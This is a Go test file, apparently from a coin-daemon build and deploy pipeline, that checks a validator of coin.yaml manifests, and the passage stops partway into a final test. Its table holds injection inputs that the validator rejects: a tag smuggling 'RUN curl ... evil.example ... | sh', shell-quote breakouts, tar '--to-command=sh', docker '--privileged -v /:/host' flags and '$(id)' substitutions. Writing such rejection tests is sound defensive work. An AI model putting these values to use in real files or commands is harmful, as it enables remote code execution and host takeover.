package manifest

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

const fixture = "testdata/coins/monero/coin.yaml"

func readFixture(t testing.TB) string {
	t.Helper()
	b, err := os.ReadFile(fixture)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// check parses and validates src as the fixture's coin.yaml and returns
// every problem line.
func check(src string) []string {
	m, err := Parse(fixture, []byte(src))
	var decoding Problems
	if err != nil && (!errors.As(err, &decoding) || m == nil) {
		if len(decoding) > 0 {
			return []string{decoding[0].String()}
		}
		return []string{"unexpected error: " + err.Error()}
	}
	ps := merge(decoding, Validate(m))
	lines := make([]string, len(ps))
	for i, p := range ps {
		lines[i] = p.String()
	}
	return lines
}

func TestFixtureIsValid(t *testing.T) {
	if got := check(readFixture(t)); len(got) != 0 {
		t.Fatalf("fixture has problems:\n%s", strings.Join(got, "\n"))
	}
}

func TestInvalidManifests(t *testing.T) {
	const f = fixture
	tests := []struct {
		name     string
		old, new string // replace old with new in the fixture
		want     []string
	}{
		{"misspelt field", "description:", "descripton:", []string{
			f + ":2:1: description: is required",
			f + `:3:1: descripton: unknown field (did you mean "description"?)`,
		}},
		{"upper-case name", "name: monero", "name: Monero", []string{
			f + `:2:7: name: "Monero" must be lower-case letters, digits and inner dashes ([a-z0-9-]+)`,
		}},
		{"name differs from folder", "name: monero", "name: bitcoin", []string{
			f + `:2:7: name: "bitcoin" does not match its folder "monero"`,
		}},
		{"version with a space", `version: "0.18.5.1"`, `version: "0.18 beta"`, []string{
			f + `:4:10: version: "0.18 beta" is not a version usable as an image tag: letters, digits, '.', '_' and '-', at most 128`,
		}},
		{"tag without version", `tag: "v{version}"`, `tag: "latest"`, []string{
			f + `:7:8: upstream.tag: "latest" must contain {version}, e.g. v{version}`,
		}},
		{"release line", `line: "~> 0.18"`, `line: "0.18.x"`, []string{
			f + `:8:9: upstream.line: "0.18.x" must look like "~> 26.0" (stay on 26.x)`,
		}},
		{"duration", "min_age: 48h", "min_age: 2 days", []string{
			f + `:9:12: upstream.min_age: "2 days" is not a duration such as 90s, 10m or 48h`,
		}},
		{"unknown platform", "linux/amd64:", "linux/amd65:", []string{
			f + `:12:5: release.artifacts.linux/amd65: unknown platform "linux/amd65"; use one of linux/386, linux/amd64, linux/arm/v7, linux/arm64, linux/ppc64le, linux/riscv64, linux/s390x`,
		}},
		{"plain http artifact", "url: https://downloads", "url: http://downloads", []string{
			f + `:13:12: release.artifacts.linux/amd64.url: "http://downloads.getmonero.org/cli/monero-linux-x64-v{version}.t"... must be an absolute https:// URL with a host`,
		}},
		{"artifact url without version", "monero-linux-x64-v{version}.tar.bz2", "monero-linux-x64.tar.bz2", []string{
			f + `:13:12: release.artifacts.linux/amd64.url: must contain {version} so the watcher can move it to a new release`,
		}},
		{"unknown placeholder", "monero-linux-x64-v{version}", "monero-linux-{arch}-v{version}", []string{
			f + `:13:12: release.artifacts.linux/amd64.url: unknown placeholder {arch}`,
		}},
		{"short sha256", "sha256: 22a7dda7b0cb699fdd6b7674c3b4a4465b337cc98a54983523b759e1e7cc9958", "sha256: 22A7DDA7", []string{
			f + `:14:15: release.artifacts.linux/amd64.sha256: must be 64 lower-case hex digits, got "22A7DDA7"`,
		}},
		{"absolute binary path", "- monero-x86_64-linux-gnu-v{version}/monerod", "- /usr/bin/monerod", []string{
			f + `:16:7: release.binaries[0]: "/usr/bin/monerod" must be a clean relative path inside the archive (letters, digits, '.', '_', '+', '-'; no part may start with '-')`,
		}},
		{"checksum format", "format: monero", "format: sha512sum", []string{
			f + `:19:13: release.checksums.format: unknown format "sha512sum"; use sha256sum, monero or gitian-assert`,
		}},
		{"signature mode", "mode: clearsigned", "mode: gpg", []string{
			f + `:21:11: release.signatures.mode: unknown mode "gpg"; use detached, clearsigned, artifact or none`,
		}},
		{"url in clearsigned mode", "mode: clearsigned", "mode: clearsigned\n    url: https://www.getmonero.org/downloads/hashes.txt.asc", []string{
			f + `:22:10: release.signatures.url: must be empty in clearsigned mode (the signature is inside the checksums file)`,
		}},
		{"threshold above keys", "threshold: 1", "threshold: 3", []string{
			f + `:22:16: release.signatures.threshold: must be between 1 and the number of keys (2), got 3`,
		}},
		{"lower-case fingerprint", "fingerprint: 81AC591FE9C4B65C5806AFC3F0AF4D462A0BDF92", "fingerprint: 81ac591fe9c4b65c5806afc3f0af4d462a0bdf92", []string{
			f + `:25:22: release.signatures.keys[0].fingerprint: must be 40 upper-case hex digits without spaces, got "81ac591fe9c4b65c5806afc3f0af4d462a0bdf92"`,
		}},
		{"fingerprint of another key", "fingerprint: 81AC591FE9C4B65C5806AFC3F0AF4D462A0BDF92", "fingerprint: BDA6BD7042B721C467A9759D7455C5E3C0CDCEB9", []string{
			f + `:25:22: release.signatures.keys[0].fingerprint: BDA6BD7042B721C467A9759D7455C5E3C0CDCEB9 is not a primary key in testdata/coins/monero/keys/binaryfate.asc (it holds 81AC591FE9C4B65C5806AFC3F0AF4D462A0BDF92)`,
			f + `:27:22: release.signatures.keys[1].fingerprint: BDA6BD7042B721C467A9759D7455C5E3C0CDCEB9 is pinned twice`,
		}},
		{"missing key file", "file: keys/binaryfate.asc", "file: keys/binaryFate.asc", []string{
			f + `:24:15: release.signatures.keys[0].file: testdata/coins/monero/keys/binaryFate.asc does not exist`,
		}},
		{"key outside keys/", "file: keys/binaryfate.asc", "file: ../../../../go.mod", []string{
			f + `:24:15: release.signatures.keys[0].file: "../../../../go.mod" must be a path under keys/ of letters, digits, '.', '_', '+' and '-'`,
		}},
		{"signer without {signer}", "file: keys/fluffypony.asc", "file: keys/fluffypony.asc\n        signer: fluffypony", []string{
			f + `:27:17: release.signatures.keys[1].signer: is only used with {signer} in the checksums or signature url`,
		}},
		{"base not pinned", "base: docker.io/library/debian:bookworm-slim@sha256:3783cc01769c7b2b1b83a5c5ad96c815348e28ed7da68e2e3687004faa906251", "base: debian:bookworm-slim", []string{
			f + `:29:9: image.base: "debian:bookworm-slim" must be pinned by digest: name[:tag]@sha256:<64 hex>`,
		}},
		{"root user", "user: monero", "user: root", []string{
			f + `:30:9: image.user: the daemon must not run as root`,
		}},
		{"uid 0", "uid: 10002", "uid: 0", []string{
			f + `:31:8: image.uid: must not be 0 (root)`,
		}},
		{"uid not a number", "uid: 10002", "uid: ten", []string{
			f + `:31:8: image.uid: "ten" is not a whole number`,
		}},
		{"command not a binary", `command: ["monerod",`, `command: ["bitcoind",`, []string{
			f + `:33:13: runtime.command[0]: "bitcoind" is not one of release.binaries (monerod) nor an absolute path`,
		}},
		{"relative data dir", "data_dir: /node/data", "data_dir: node/data", []string{
			f + `:34:13: runtime.data_dir: "node/data" must be a clean absolute path of letters, digits, '.', '_', '+' and '-'`,
		}},
		{"config inside the volume", "path: /node/monerod.conf}", "path: /node/data/monerod.conf}", []string{
			f + `:36:40: runtime.config[0].path: /node/data/monerod.conf is inside data_dir /node/data, a volume that hides it at run time`,
		}},
		{"port out of range", "rpc: [18081]", "rpc: [80810]", []string{
			f + `:37:31: runtime.ports.rpc[0]: 80810 is not a port (1-65535)`,
		}},
		{"port listed twice", "rpc: [18081]", "rpc: [18080]", []string{
			f + `:37:31: runtime.ports.rpc[0]: 18080 is already listed under p2p`,
		}},
		{"stop timeout missing", "  stop_timeout: 5m\n", "", []string{
			f + `:33:3: runtime.stop_timeout: is required: how long the daemon may take to stop cleanly, e.g. 10m`,
		}},
		{"port with an unknown protocol", "p2p: [18080]", "p2p: [18080, 18080/sctp]", []string{
			f + `:37:24: runtime.ports.p2p[1]: "18080/sctp": the protocol must be tcp or udp`,
		}},
		{"port that is not a number", "p2p: [18080]", "p2p: [http]", []string{
			f + `:37:17: runtime.ports.p2p[0]: "http" is not a port such as 8332 or 30303/udp`,
		}},
		{"stop signal", "stop_timeout: 5m", "stop_timeout: 5m\n  stop_signal: SIGKILL", []string{
			f + `:39:16: runtime.stop_signal: "SIGKILL" is not one of SIGTERM, SIGINT, SIGQUIT, SIGHUP`,
		}},
		{"ecr name", "ecr_repository: coin-daemons/monero", "ecr_repository: Coin-Daemons/Monero", []string{
			f + `:41:19: deploy.ecr_repository: "Coin-Daemons/Monero" is not an ECR repository name (lower-case, '/', '.', '_', '-')`,
		}},
		{"max unavailable 0", "max_unavailable: 1", "max_unavailable: 0", []string{
			f + `:43:20: deploy.max_unavailable: must be at least 1, got 0`,
		}},
		{"slack channel", `slack_channel: "#coin-nodes"`, `slack_channel: "coin-nodes"`, []string{
			f + `:46:18: notify.slack_channel: "coin-nodes" is not a Slack channel such as "#coin-nodes"`,
		}},
		{"duplicate key", "  user: monero\n", "  user: monero\n  user: other\n", []string{
			f + `:31:3: image.user: duplicate key`,
		}},
		{"list for a mapping", "notify:\n  slack_channel: \"#coin-nodes\"", "notify:\n  - \"#coin-nodes\"", []string{
			f + `:46:3: notify: must be a mapping, not a list`,
		}},
		// Values that reach shell, Dockerfile and systemd lines: a review
		// rendered each of these into a command that ran.
		{"data dir smuggling docker flags", "data_dir: /node/data", `data_dir: "/node/data --privileged -v /:/host"`, []string{
			f + `:34:13: runtime.data_dir: "/node/data --privileged -v /:/host" must be a clean absolute path of letters, digits, '.', '_', '+' and '-'`,
		}},
		{"binary path breaking out of its shell quotes", "- monero-x86_64-linux-gnu-v{version}/monerod", `- "monero-v{version}/bin'; touch /tmp/PWNED; echo '/monerod"`, []string{
			f + `:16:7: release.binaries[0]: "monero-v{version}/bin'; touch /tmp/PWNED; echo '/monerod" must be a clean relative path inside the archive (letters, digits, '.', '_', '+', '-'; no part may start with '-')`,
		}},
		{"binary path that is a tar option", "- monero-x86_64-linux-gnu-v{version}/monerod", "- --to-command=sh", []string{
			f + `:16:7: release.binaries[0]: "--to-command=sh" must be a clean relative path inside the archive (letters, digits, '.', '_', '+', '-'; no part may start with '-')`,
			f + `:33:13: runtime.command[0]: "monerod" is not one of release.binaries (--to-command=sh) nor an absolute path`,
			f + `:39:12: runtime.height[0]: "monerod" is not one of release.binaries (--to-command=sh) nor an absolute path`,
		}},
		{"tag with a Dockerfile line in it", `tag: "v{version}"`, `tag: "v{version}\"\nRUN curl -s http://evil.example/x | sh\nLABEL x=\""`, []string{
			f + `:7:8: upstream.tag: "v{version}\"\nRUN curl -s http://evil.example/x | sh\nLABEL x=\"" may hold only letters, digits, '.', '_', '+', '-', '/' and {version}`,
		}},
		{"description with a shell variable", "description: Monero full node", `description: "Monero $HOME 100%"`, []string{
			f + `:3:14: description: must be one line without quotes, backslashes, $, % or backticks`,
		}},
		{"version that is not an image tag", `version: "0.18.5.1"`, `version: "0.18.5.1+build"`, []string{
			f + `:4:10: version: "0.18.5.1+build" is not a version usable as an image tag: letters, digits, '.', '_' and '-', at most 128`,
		}},
		{"stop timeout under a second", "stop_timeout: 5m", "stop_timeout: 900ms", []string{
			f + `:38:17: runtime.stop_timeout: 900ms must be a whole number of seconds, at least 1s (docker and systemd count seconds)`,
		}},
		// Issue 8: runtime.stall_after, when the height probe calls a node stalled.
		{"stall after zero", "stop_timeout: 5m", "stop_timeout: 5m\n  stall_after: 0s", []string{
			f + `:39:16: runtime.stall_after: 0s must be a whole number of seconds, at least 1s (coinpipe-health counts seconds)`,
		}},
		{"stall after negative", "stop_timeout: 5m", "stop_timeout: 5m\n  stall_after: -1h", []string{
			f + `:39:16: runtime.stall_after: -1h must be a whole number of seconds, at least 1s (coinpipe-health counts seconds)`,
		}},
		{"stall after a fraction of a second", "stop_timeout: 5m", "stop_timeout: 5m\n  stall_after: 90500ms", []string{
			f + `:39:16: runtime.stall_after: 1m30.5s must be a whole number of seconds, at least 1s (coinpipe-health counts seconds)`,
		}},
		{"stall after not a duration", "stop_timeout: 5m", "stop_timeout: 5m\n  stall_after: an hour", []string{
			f + `:39:16: runtime.stall_after: "an hour" is not a duration such as 90s, 10m or 48h`,
		}},
		// Issue 8: image.debian_snapshot pins the runtime stage's packages.
		{"packages without a debian snapshot", "  user: monero\n", "  packages: [netbase]\n  user: monero\n", []string{
			f + `:29:3: image.debian_snapshot: is required when the runtime image installs packages (image.packages, or runtime.snapshot's download tools): the snapshot.debian.org time, such as 20260918T000000Z, that pins their versions`,
		}},
		{"snapshot seeding without a debian snapshot", "stop_timeout: 5m", "stop_timeout: 5m\n  snapshot: true", []string{
			f + `:29:3: image.debian_snapshot: is required when the runtime image installs packages (image.packages, or runtime.snapshot's download tools): the snapshot.debian.org time, such as 20260918T000000Z, that pins their versions`,
		}},
		{"debian snapshot written as a date", "  user: monero\n", "  packages: [netbase]\n  debian_snapshot: \"2026-09-18\"\n  user: monero\n", []string{
			f + `:31:20: image.debian_snapshot: "2026-09-18" is not a snapshot.debian.org time such as 20260918T000000Z (UTC, YYYYMMDDTHHMMSSZ)`,
		}},
		{"debian snapshot on a day that does not exist", "  user: monero\n", "  packages: [netbase]\n  debian_snapshot: 20260231T000000Z\n  user: monero\n", []string{
			f + `:31:20: image.debian_snapshot: "20260231T000000Z" is not a snapshot.debian.org time such as 20260918T000000Z (UTC, YYYYMMDDTHHMMSSZ)`,
		}},
		{"debian snapshot in another time zone", "  user: monero\n", "  packages: [netbase]\n  debian_snapshot: 20260918T000000+0200\n  user: monero\n", []string{
			f + `:31:20: image.debian_snapshot: "20260918T000000+0200" is not a snapshot.debian.org time such as 20260918T000000Z (UTC, YYYYMMDDTHHMMSSZ)`,
		}},
		{"debian snapshot without a package", "  user: monero\n", "  debian_snapshot: 20260918T000000Z\n  user: monero\n", []string{
			f + `:30:20: image.debian_snapshot: the runtime image installs no package (no image.packages, no runtime.snapshot): remove it`,
		}},
		{"debian snapshot with packages and snapshot seeding", "  user: monero\n", "  packages: [netbase]\n  debian_snapshot: 20260918T000000Z\n  user: monero\n", nil},
		{"stall after without a height", `  height: ["monerod", "print_height"]`, "  stall_after: 2h", []string{
			f + `:39:16: runtime.stall_after: needs runtime.height: without a block height nothing can be seen to stall`,
		}},
		{"binary named like coinpipe's health script", "- monero-x86_64-linux-gnu-v{version}/monerod", "- monero-x86_64-linux-gnu-v{version}/coinpipe-health", []string{
			f + `:16:7: release.binaries[0]: "monero-x86_64-linux-gnu-v{version}/coinpipe-health" would be replaced by coinpipe's own coinpipe-health in /usr/local/bin`,
			f + `:33:13: runtime.command[0]: "monerod" is not one of release.binaries (coinpipe-health) nor an absolute path`,
			f + `:39:12: runtime.height[0]: "monerod" is not one of release.binaries (coinpipe-health) nor an absolute path`,
		}},
		{"empty uid", "uid: 10002", "uid: ~", []string{
			f + `:31:8: image.uid: is required: a fixed uid keeps host volumes' owner stable`,
		}},
		{"uid of nobody", "uid: 10002", "uid: 65534", []string{
			f + `:31:8: image.uid: 65534 is nobody/nogroup or reserved; pick another fixed uid`,
		}},
		{"tab indentation", "  user: monero", "\tuser: monero", []string{
			f + `:30:1: invalid YAML: a tab in the indentation; indent with spaces`,
		}},
		{"two documents", "notify:", "---\nnotify:", []string{
			f + `:45:1: a second YAML document: coin.yaml holds exactly one`,
		}},
		// Issue 6: URLs are absolute https URLs a shell line cannot misread.
		{"url with a space", "monero-linux-x64-v{version}.tar.bz2", "monero linux-x64-v{version}.tar.bz2", []string{
			f + `:13:12: release.artifacts.linux/amd64.url: "https://downloads.getmonero.org/cli/monero linux-x64-v{version}."... must not contain spaces or control characters; percent-encode a space as %20`,
		}},
		{"url with a newline", "url: https://www.getmonero.org/downloads/hashes.txt", `url: "https://www.getmonero.org/downloads/hashes.txt\n"`, []string{
			f + `:18:10: release.checksums.url: "https://www.getmonero.org/downloads/hashes.txt\n" must not contain spaces or control characters; percent-encode a space as %20`,
		}},
		{"url with credentials", "url: https://downloads", "url: https://user:hunter2@downloads", []string{
			f + `:13:12: release.artifacts.linux/amd64.url: must not hold credentials (user:password@ before the host): pinned URLs are public`,
		}},
		{"url with a fragment", "hashes.txt\n", "hashes.txt#top\n", []string{
			f + `:18:10: release.checksums.url: "https://www.getmonero.org/downloads/hashes.txt#top" must not have a #fragment`,
		}},
		{"url without a host", "url: https://downloads.getmonero.org/cli/", "url: https:///cli/", []string{
			f + `:13:12: release.artifacts.linux/amd64.url: "https:///cli/monero-linux-x64-v{version}.tar.bz2" must be an absolute https:// URL with a host`,
		}},
		{"relative url", "url: https://downloads.getmonero.org/cli/", "url: /cli/", []string{
			f + `:13:12: release.artifacts.linux/amd64.url: "/cli/monero-linux-x64-v{version}.tar.bz2" must be an absolute https:// URL with a host`,
		}},
		{"url with a command substitution", "monero-linux-x64-v{version}.tar.bz2", "monero-$(id)-v{version}.tar.bz2", []string{
			f + `:13:12: release.artifacts.linux/amd64.url: "https://downloads.getmonero.org/cli/monero-$(id)-v{version}.tar."... may hold only a host name, an optional port, and letters, digits and - . _ ~ % / : @ + = & ? , after it; percent-encode anything else`,
		}},
		{"url with a quote", "url: https://www.getmonero.org/downloads/hashes.txt", `url: "https://www.getmonero.org/downloads/hashes'.txt"`, []string{
			f + `:18:10: release.checksums.url: "https://www.getmonero.org/downloads/hashes'.txt" may hold only a host name, an optional port, and letters, digits and - . _ ~ % / : @ + = & ? , after it; percent-encode anything else`,
		}},
		// upstream.github is GitHub's owner/repo.
		{"github with three parts", "github: monero-project/monero", "github: monero-project/monero/releases", []string{
			f + `:6:11: upstream.github: "monero-project/monero/releases" must be owner/repo, e.g. bitcoin/bitcoin`,
		}},
		{"github owner starting with a dash", "github: monero-project/monero", "github: -monero/monero", []string{
			f + `:6:11: upstream.github: "-monero/monero": the owner must be 1-39 letters, digits and '-', not starting with '-'`,
		}},
		{"github owner with an underscore", "github: monero-project/monero", "github: monero_project/monero", []string{
			f + `:6:11: upstream.github: "monero_project/monero": the owner must be 1-39 letters, digits and '-', not starting with '-'`,
		}},
		{"github repo ..", "github: monero-project/monero", "github: monero-project/..", []string{
			f + `:6:11: upstream.github: "monero-project/..": the repository must be 1-100 letters, digits, '.', '_' and '-', other than . and ..`,
		}},
		// deploy.instances reaches SSM filters and shell lines.
		{"tag key with a command substitution", "tag: Component", `tag: "Comp$(id)"`, []string{
			f + `:42:20: deploy.instances.tag: "Comp$(id)" must be an EC2 tag key: 1-128 letters, digits, spaces and _ . : / = + - @`,
		}},
		{"tag key in the aws: namespace", "tag: Component", `tag: "aws:cloudformation:stack-name"`, []string{
			f + `:42:20: deploy.instances.tag: "aws:cloudformation:stack-name" starts with aws:, which AWS keeps for its own tags`,
		}},
		{"tag value with backticks", "value: nodes/monero", "value: \"nodes`id`\"", []string{
			f + ":42:38: deploy.instances.value: \"nodes`id`\" must be an EC2 tag value: at most 256 letters, digits, spaces and _ . : / = + - @",
		}},
		{"tag value over 256 characters", "value: nodes/monero", "value: " + strings.Repeat("n", 257), []string{
			f + `:42:38: deploy.instances.value: "nnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnn"... must be an EC2 tag value: at most 256 letters, digits, spaces and _ . : / = + - @`,
		}},
		// runtime.data_dir is a folder of its own.
		{"data dir /", "data_dir: /node/data", "data_dir: /", []string{
			f + `:34:13: runtime.data_dir: / must be a folder of its own at least two levels deep, such as /node/data or /var/lib/monero`,
		}},
		{"data dir /etc", "data_dir: /node/data", "data_dir: /etc", []string{
			f + `:34:13: runtime.data_dir: /etc is under /etc, a system folder; use a folder of its own such as /node/data`,
		}},
		{"data dir under /usr", "data_dir: /node/data", "data_dir: /usr/local/data", []string{
			f + `:34:13: runtime.data_dir: /usr/local/data is under /usr, a system folder; use a folder of its own such as /node/data`,
		}},
		{"data dir under /tmp", "data_dir: /node/data", "data_dir: /tmp/monero", []string{
			f + `:34:13: runtime.data_dir: /tmp/monero is under /tmp, a system folder; use a folder of its own such as /node/data`,
		}},
		{"data dir /var", "data_dir: /node/data", "data_dir: /var", []string{
			f + `:34:13: runtime.data_dir: /var must be a folder of its own at least two levels deep, such as /node/data or /var/lib/monero`,
		}},
		{"data dir /node", "data_dir: /node/data", "data_dir: /node", []string{
			f + `:34:13: runtime.data_dir: /node must be a folder of its own at least two levels deep, such as /node/data or /var/lib/monero`,
		}},
		// runtime.config[].path goes under /node/ or /etc/<coin>/ only.
		{"config over a verified binary", "path: /node/monerod.conf}", "path: /usr/local/bin/monerod}", []string{
			f + `:36:40: runtime.config[0].path: /usr/local/bin/monerod would replace the verified binary monerod; config files go under /node/ or /etc/monero/`,
		}},
		{"config over the entry point", "path: /node/monerod.conf}", "path: /usr/local/bin/docker-entrypoint.sh}", []string{
			f + `:36:40: runtime.config[0].path: /usr/local/bin/docker-entrypoint.sh would replace the entry point; config files go under /node/ or /etc/monero/`,
		}},
		{"config over /etc/passwd", "path: /node/monerod.conf}", "path: /etc/passwd}", []string{
			f + `:36:40: runtime.config[0].path: /etc/passwd is outside /node/ and /etc/monero/, the only places config files may go`,
		}},
		{"config in another coin's /etc folder", "path: /node/monerod.conf}", "path: /etc/bitcoin/monerod.conf}", []string{
			f + `:36:40: runtime.config[0].path: /etc/bitcoin/monerod.conf is outside /node/ and /etc/monero/, the only places config files may go`,
		}},
		{"config over the data dir", "path: /node/monerod.conf}", "path: /node/data}", []string{
			f + `:36:40: runtime.config[0].path: /node/data would replace data_dir /node/data`,
		}},
		{"config with ..", "path: /node/monerod.conf}", "path: /node/../etc/passwd}", []string{
			f + `:36:40: runtime.config[0].path: "/node/../etc/passwd" must be a clean absolute path of letters, digits, '.', '_', '+' and '-'`,
		}},
		{"config under another config", "path: /node/monerod.conf}", "path: /node/monerod.conf}\n    - {file: files/monerod.conf, path: /node/monerod.conf/x}", []string{
			f + `:37:40: runtime.config[1].path: /node/monerod.conf/x and /node/monerod.conf cannot both be files`,
		}},
		// Issue 8: the config overlay and the README's warnings.
		{"two overlay configs", "path: /node/monerod.conf}", "path: /node/monerod.conf, overlay: true}\n    - {file: files/monerod.conf, path: /node/other.conf, overlay: true}", []string{
			f + `:37:67: runtime.config[1].overlay: only one config file may take the overlay: the host has one, /etc/coinpipe/monero.conf, and runtime.config[0] takes it`,
		}},
		{"a config over an overlay's base", "path: /node/monerod.conf}", "path: /node/monerod.conf, overlay: true}\n    - {file: files/monerod.conf, path: /node/monerod.conf.base}", []string{
			f + `:37:40: runtime.config[1].path: /node/monerod.conf.base is where the image keeps the base of the overlay config /node/monerod.conf`,
		}},
		{"overlay not a boolean", "path: /node/monerod.conf}", "path: /node/monerod.conf, overlay: maybe}", []string{
			f + `:36:69: runtime.config[0].overlay: "maybe" is not true or false`,
		}},
		{"empty warning", "notify:\n", "warnings: [\"\"]\nnotify:\n", []string{
			f + `:45:12: warnings[0]: is empty`,
		}},
		{"warning of two lines", "notify:\n", "warnings:\n  - \"Do not deploy.\\nRead SOURCES.md.\"\nnotify:\n", []string{
			f + `:46:5: warnings[0]: must be one line without control characters (a newline or tab)`,
		}},
		{"warning too long", "notify:\n", "warnings:\n  - ok\n  - " + strings.Repeat("x", 301) + "\nnotify:\n", []string{
			f + `:47:5: warnings[1]: is 301 characters; keep a warning to one line of at most 300 and put the details in SOURCES.md`,
		}},
		{"warnings not a list", "notify:\n", "warnings: Do not deploy\nnotify:\n", []string{
			f + `:45:11: warnings: must be a list, not "Do not deploy"`,
		}},
		// Indentation mistakes are reported at the line that has them.
		{"over-indented key", "  user: monero\n", "    user: monero\n", []string{
			f + `:30:5: invalid YAML: this line is indented 2 spaces more than line 29, which already has its value; keys of one mapping start in the same column`,
		}},
		{"over-indented key after a list", "  data_dir: /node/data\n", "    data_dir: /node/data\n", []string{
			f + `:34:5: invalid YAML: this line is indented 2 spaces more than line 33, which already has its value; keys of one mapping start in the same column`,
		}},
		{"over-indented first key", "  ecr_repository:", "    ecr_repository:", []string{
			f + `:41:5: invalid YAML: this line is indented 2 spaces more than line 42 below it; keys of one mapping start in the same column`,
		}},
		{"over-indented key in a list entry", "        fingerprint: BDA6", "          fingerprint: BDA6", []string{
			f + `:27:11: invalid YAML: this line is indented 2 spaces more than line 26, which already has its value; keys of one mapping start in the same column`,
		}},
		{"under-indented key", "  user: monero\n", " user: monero\n", []string{
			f + `:30:2: invalid YAML: this line is indented 1 space: more than line 28, which opens its block, and less than line 29, the block's first line (2 spaces); keys of one mapping start in the same column`,
		}},
		// Issue 8: runtime.memory is docker's --memory; deploy.rpc_address
		// the one host address RPC is published on.
		{"memory in bytes", "  stop_timeout: 5m\n", "  stop_timeout: 5m\n  memory: 8GB\n", []string{
			f + `:39:11: runtime.memory: "8GB" is not a memory limit such as 512m or 8g (a whole number of MiB or GiB)`,
		}},
		{"memory with a flag in it", "  stop_timeout: 5m\n", "  stop_timeout: 5m\n  memory: \"8g --privileged\"\n", []string{
			f + `:39:11: runtime.memory: "8g --privileged" is not a memory limit such as 512m or 8g (a whole number of MiB or GiB)`,
		}},
		{"memory below docker's minimum", "  stop_timeout: 5m\n", "  stop_timeout: 5m\n  memory: 5m\n", []string{
			f + `:39:11: runtime.memory: 5m is below docker's minimum of 6m`,
		}},
		{"rpc address on every address", "  health_timeout: 30m\n", "  health_timeout: 30m\n  rpc_address: 0.0.0.0\n", []string{
			f + `:45:16: deploy.rpc_address: 0.0.0.0 would publish RPC on every address of the host; name one loopback or private address`,
		}},
		{"public rpc address", "  health_timeout: 30m\n", "  health_timeout: 30m\n  rpc_address: 203.0.113.7\n", []string{
			f + `:45:16: deploy.rpc_address: 203.0.113.7 is a public address; RPC is published only on loopback or a private address (10/8, 172.16/12, 192.168/16)`,
		}},
		{"rpc address with a port", "  health_timeout: 30m\n", "  health_timeout: 30m\n  rpc_address: 10.0.1.5:8332\n", []string{
			f + `:45:16: deploy.rpc_address: "10.0.1.5:8332" is not an IPv4 address such as 127.0.0.1 or 10.0.1.5`,
		}},
		{"rpc address IPv6", "  health_timeout: 30m\n", "  health_timeout: 30m\n  rpc_address: \"::1\"\n", []string{
			f + `:45:16: deploy.rpc_address: "::1" is not an IPv4 address such as 127.0.0.1 or 10.0.1.5`,
		}},
		{"rpc address host name", "  health_timeout: 30m\n", "  health_timeout: 30m\n  rpc_address: node.internal\n", []string{
			f + `:45:16: deploy.rpc_address: "node.internal" is not an IPv4 address such as 127.0.0.1 or 10.0.1.5`,
		}},
		// Values from the file are quoted short and escaped.
		{"long value quoted short", `version: "0.18.5.1"`, `version: "` + strings.Repeat("\\x1b", 100) + `"`, []string{
			f + `:4:10: version: "\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b"... is not a version usable as an image tag: letters, digits, '.', '_' and '-', at most 128`,
		}},
		{"long YAML message cut short", "user: monero", "user: *" + strings.Repeat("a", 500), []string{
			f + ": invalid YAML: unknown anchor '" + strings.Repeat("a", 3*ExcerptLimit-len("unknown anchor '")) + "...",
		}},
		{"long unknown key quoted short", "notify:", strings.Repeat("k", 100) + ": 1\nnotify:", []string{
			f + `:45:1: "kkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkk"...: unknown field; known fields: deploy, description, image, name, notify, release, runtime, upstream, version, warnings`,
		}},
	}
	base := readFixture(t)
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if !strings.Contains(base, tt.old) {
				t.Fatalf("fixture has no %q", tt.old)
			}
			got := check(strings.Replace(base, tt.old, tt.new, 1))
			if strings.Join(got, "\n") != strings.Join(tt.want, "\n") {
				t.Errorf("problems:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(tt.want, "\n"))
			}
		})
	}
}

// Several mistakes come back together, one line each, in file order.
func TestAllProblemsAtOnce(t *testing.T) {
	src := readFixture(t)
	for _, r := range [][2]string{{"name: monero", "name: Monero"}, {"uid: 10002", "uid: 0"}, {"format: monero", "format: md5"}, {"user: monero", "user: monero\n  shell: /bin/sh"}} {
		src = strings.Replace(src, r[0], r[1], 1)
	}
	got := check(src)
	want := []string{
		fixture + `:2:7: name: "Monero" must be lower-case letters, digits and inner dashes ([a-z0-9-]+)`,
		fixture + `:19:13: release.checksums.format: unknown format "md5"; use sha256sum, monero or gitian-assert`,
		fixture + `:31:3: image.shell: unknown field; known fields: base, debian_snapshot, packages, revision, uid, user`,
		fixture + `:32:8: image.uid: must not be 0 (root)`,
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("problems:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

func TestDiscover(t *testing.T) {
	dirs, err := Discover("testdata/coins", nil)
	if err != nil || len(dirs) != 1 || filepath.Base(dirs[0]) != "monero" {
		t.Fatalf("Discover = %v, %v", dirs, err)
	}
	_, err = Discover("testdata/coins", []string{"dogecoin"})
	want := `unknown coin "dogecoin": testdata/coins/dogecoin/coin.yaml does not exist`
	if err == nil || err.Error() != want {
		t.Fatalf("Discover(dogecoin) error = %v, want %s", err, want)
	}
}

// The same number may be listed for TCP and UDP (geth's P2P and discovery).
func TestPortsTCPAndUDP(t *testing.T) {
	src := strings.Replace(readFixture(t), "p2p: [18080]", "p2p: [18080, 18080/udp]", 1)
	m, err := Parse(fixture, []byte(src))
	if err != nil {
		t.Fatal(err)
	}
	if ps := Validate(m); len(ps) > 0 {
		t.Fatal(ps)
	}
	got := fmt.Sprint(m.Runtime.Ports["p2p"])
	if got != "[18080 18080/udp]" {
		t.Fatalf("p2p ports %s", got)
	}
}

// YAML spells booleans True and TRUE too; they must not read as false.
func TestBooleanSpellings(t *testing.T) {
